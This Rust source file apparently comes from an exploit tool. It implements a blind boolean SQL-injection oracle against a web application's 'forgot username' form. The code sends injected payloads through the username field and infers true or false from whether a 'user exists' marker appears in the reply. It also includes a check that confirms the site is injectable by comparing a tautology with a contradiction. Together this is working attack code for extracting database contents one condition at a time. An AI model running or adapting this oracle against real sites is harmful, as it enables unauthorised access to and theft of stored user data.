use std::sync::atomic::{AtomicU64, Ordering};
use async_trait::async_trait;
use crate::config::ChainConfig;
use crate::http::{endpoints, Session};
use super::query::{Operator, OracleQuery};
use super::Oracle;
use tracing::{trace, warn};

/// Boolean SQL-injection oracle over the "forgot username" form: the
/// condition is true iff the page reports that the user exists.
pub struct HttpOracle<'a> {
    session: &'a Session,
    anchor: String,
    marker: String,
    sent: AtomicU64,
}

impl<'a> HttpOracle<'a> {
    pub fn new(session: &'a Session, config: &ChainConfig) -> Self {
        Self {
            session,
            anchor: config.injection_anchor.clone(),
            marker: config.markers.user_exists.clone(),
            sent: AtomicU64::new(0),
        }
    }
}

#[async_trait]
impl<'a> Oracle for HttpOracle<'a> {
    async fn probe(&self, query: &OracleQuery) -> bool {
        self.sent.fetch_add(1, Ordering::Relaxed);
        let payload = query.to_payload(&self.anchor);
        trace!(payload = %payload, "Oracle probe");

        match self.session.post_form(endpoints::FORGOT_USERNAME, &[("username", payload.as_str())]).await {
            Ok(reply) => reply.contains(&self.marker),
            Err(e) => {
                // Fail closed: a lost probe reads as "false", never as "true"
                warn!(error = %e, "Oracle probe failed, treating as false");
                false
            }
        }
    }

    fn probes_sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }
}

/// Confirm the oracle distinguishes a tautology from a contradiction.
pub async fn test_vulnerability(oracle: &dyn Oracle) -> bool {
    let true_test = oracle.probe(&OracleQuery::against_literal("1", Operator::Eq, 1)).await;
    let false_test = oracle.probe(&OracleQuery::against_literal("0", Operator::Eq, 1)).await;
    true_test && !false_test
}
